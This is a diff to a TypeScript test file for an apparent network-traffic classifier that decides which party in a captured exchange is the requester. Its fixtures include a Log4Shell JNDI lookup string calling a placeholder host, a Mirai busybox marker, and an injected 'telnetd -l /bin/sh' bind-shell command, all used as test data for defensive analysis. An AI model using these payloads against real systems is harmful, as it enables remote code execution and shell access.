@@ -92,6 +92,12 @@ describe('a connection', () => {
   })
 })
 
+/** Half of a packet of QUIC or of a file: bytes as encryption leaves them. */
+const noise = (length: number): string =>
+  Array.from({ length }, (_, at) => String.fromCharCode((at * 89 + 160) & 255)).join('')
+const exploit = 'GET /?x=${jndi:ldap://198.51.100.9/a} HTTP/1.1\r\nHost: h\r\n\r\n'
+const quoting = `<p>You asked:\n${exploit}</p>`
+
 const nobody: [what: string, captured: TimedFrame[]][] = [
   ['a SYN-ACK', frames([segment('server', 443, 'SA')])],
   [
@@ -113,6 +119,38 @@ const nobody: [what: string, captured: TimedFrame[]][] = [
   ['an answer of SNMP', frames([datagram('server', 161, '0\x1c\x02\x01\x01\x04\x06public\xa2\x0f')])],
   ['an answer of SSDP', frames([datagram('server', 1900, 'HTTP/1.1 200 OK\r\n')])],
   ['an answer of SIP', frames([datagram('server', 5062, 'SIP/2.0 200 OK\r\n')])],
+  ['an answer of QUIC under way', frames([datagram('server', 443, `\x4f${noise(40)}`)])],
+  ['a retry of QUIC', frames([datagram('server', 443, `\xf0\x00\x00\x00\x01\x08${noise(40)}`)])],
+  ['versions of QUIC', frames([datagram('server', 8443, `\x9a\x00\x00\x00\x00\x08${noise(20)}`)])],
+  ['an answer of SLP', frames([datagram('server', 427, '\x02\x02\x00\x00\x20\x00\x00\x00\x00\x00')])],
+  ['matches of WS-Discovery', frames([datagram('server', 3702, '<?xml version="1.0"?><s:Envelope><a:To/>')])],
+  ['the instances of a SQL server', frames([datagram('server', 1434, '\x05\x58\x00ServerName;DB;')])],
+  ['an answer of a game server', frames([datagram('server', 27016, '\xff\xff\xff\xffI\x11name\x00map\x00')])],
+  ['a challenge of a game server', frames([datagram('server', 27015, '\xff\xff\xff\xffA\x01\x02\x03\x04')])],
+  [
+    'an acknowledged property of BACnet',
+    frames([datagram('server', 47808, '\x81\x0a\x00\x14\x01\x00\x30\x01\x0c')]),
+  ],
+  [
+    'an I-Am of BACnet',
+    frames([datagram('server', 47808, '\x81\x0b\x00\x18\x01\x20\xff\xff\x00\xff\x10\x00\xc4')]),
+  ],
+  ['data of TFTP', frames([datagram('server', 50_069, '\x00\x03\x00\x01configuration')])],
+  ['a later block of TFTP', frames([datagram('server', 50_069, `\x00\x03\x01\x07${noise(512)}`)])],
+  ['an error of TFTP', frames([datagram('server', 69, '\x00\x05\x00\x01File not found\x00')])],
+  ['a page that quotes a request', frames([segment('server', 80, 'PA', quoting)])],
+  [
+    'a page that quotes one, acknowledged',
+    frames([segment('server', 80, 'PA', quoting), segment('client', 80, 'A')]),
+  ],
+  [
+    'a file sent from the port of FTP data',
+    frames([segment('server', 20, 'PA', exploit), segment('client', 20, 'A')]),
+  ],
+  [
+    'a reply of Redis that is a list',
+    frames([segment('server', 6379, 'PA', '*2\r\n$3\r\nfoo\r\n$3\r\nbar\r\n')]),
+  ],
   ['chargen', frames([datagram('server', 19, ' !"#$%&')])],
   ['an echo reply', frames([['server', icmp({ type: 0 })]])],
   ['a port that cannot be reached', frames([['server', icmp({ type: 3, code: 3 })]])],
@@ -161,6 +199,123 @@ describe('who asks is the source', () => {
     )
     expect(message).toEqual({ type: 8, code: 0 })
   })
+})
+
+const unproven: [what: string, source: 'client' | 'server', captured: TimedFrame[]][] = [
+  [
+    'a page on a port nobody knows, quoting a request',
+    'server',
+    frames([segment('server', 8090, 'PA', quoting), segment('client', 8090, 'A')]),
+  ],
+  [
+    'a file that reads like a request',
+    'server',
+    frames([segment('server', 50_123, 'PA', exploit), segment('client', 50_123, 'A')]),
+  ],
+  [
+    'a list of Redis from another port',
+    'server',
+    frames([segment('server', 6380, 'PA', '*1\r\n$3\r\nfoo\r\n'), segment('client', 6380, 'A')]),
+  ],
+  [
+    'what a server on another port of Telnet shows',
+    'server',
+    frames([segment('server', 2323, 'PA', '/bin/busybox MIRAI\r\n'), segment('client', 2323, 'A')]),
+  ],
+  [
+    'an echo behind what it echoes',
+    'server',
+    frames([segment('client', 7777, 'PA', quoting), segment('server', 7777, 'PA', exploit)]),
+  ],
+  ['a lone segment, which anybody may have sent', 'client', frames([segment('client', 80, 'PA', exploit)])],
+  [
+    'a lone segment that was refused',
+    'client',
+    frames([segment('client', 80, 'PA', exploit), segment('server', 80, 'R')]),
+  ],
+  [
+    'what a server said to somebody who speaks like one',
+    'server',
+    frames([
+      segment('client', 2526, 'PA', response),
+      segment('server', 2526, 'PA', '500 what is ${jndi:ldap://a/a}?\r\n'),
+    ]),
+  ],
+  [
+    'a page that holds a ClientHello',
+    'server',
+    frames([
+      segment(
+        'server',
+        8090,
+        'PA',
+        `see: \x16\x03\x01\x00\x2d\x01\x00\x00\x29\x03\x03${noise(32)}\x00\x00\x02\x13\x01\x01\x00`,
+      ),
+      segment('client', 8090, 'A'),
+    ]),
+  ],
+]
+
+describe('in a stream whose beginning nobody saw, the other end must bear a request out, or it is unknown', () => {
+  test.each(unproven)('%s', async (_what, source, captured) => {
+    expect(await judged(captured)).toEqual([source, 'unknown'])
+  })
+
+  const proven: [what: string, captured: TimedFrame[]][] = [
+    [
+      'answered in kind, on any port',
+      frames([segment('client', 8090, 'PA', exploit), segment('server', 8090, 'PA', response)]),
+    ],
+    [
+      'acknowledged by a service’s port that had not spoken',
+      frames([
+        segment('client', 6379, 'PA', '*1\r\n$4\r\nPING\r\n'),
+        segment('server', 6379, 'PA', '+PONG\r\n'),
+      ]),
+    ],
+    [
+      'typed to Telnet’s port and acknowledged',
+      frames([segment('client', 23, 'PA', 'enable\r\n'), segment('server', 23, 'A')]),
+    ],
+  ]
+  test.each(proven)('%s it is one', async (_what, captured) => {
+    expect(await judged(captured)).toEqual(['client', 'request'])
+  })
+
+  it('and data without SYN, ACK and RST reach nobody', async () => {
+    const scan = await only(frames([segment('client', 80, 'F', exploit)]))
+    expect(scan).toMatchObject({ source: { ip: client }, direction: 'request', http: null })
+    expect(scan.sourcePayload).toHaveLength(0)
+  })
+})
+
+test('questions of the same protocols are requests of their senders', async () => {
+  const questions: [port: number, payload: string][] = [
+    [427, '\x02\x01\x00\x00\x20\x00\x00\x00'],
+    [1434, '\x02'],
+    [
+      3702,
+      '<?xml version="1.0"?><Envelope><Action>http://schemas.xmlsoap.org/ws/2005/04/discovery/Probe</Action>',
+    ],
+    [27015, '\xff\xff\xff\xffTSource Engine Query\x00'],
+    [47808, '\x81\x0a\x00\x11\x01\x04\x00\x05\x01\x0c'],
+    [47808, '\x81\x0b\x00\x0c\x01\x20\xff\xff\x00\xff\x10\x08'],
+  ]
+  for (const [port, payload] of questions)
+    expect([port, ...(await judged(frames([datagram('client', port, payload)])))]).toEqual([
+      port,
+      'client',
+      'request',
+    ])
+  // Sent to the server's port, the shape of an answer is one that nobody asked for.
+  expect(await judged(frames([datagram('client', 1434, '\x05\x58\x00ServerName')]))).toEqual([
+    'client',
+    'unknown',
+  ])
+  expect(await judged(frames([datagram('client', 9034, 'orf;telnetd -l /bin/sh -p 31337', 443)]))).toEqual([
+    'client',
+    'unknown',
+  ])
 })
 
 test('what proves nothing is unknown, and its first sender the source', async () => {
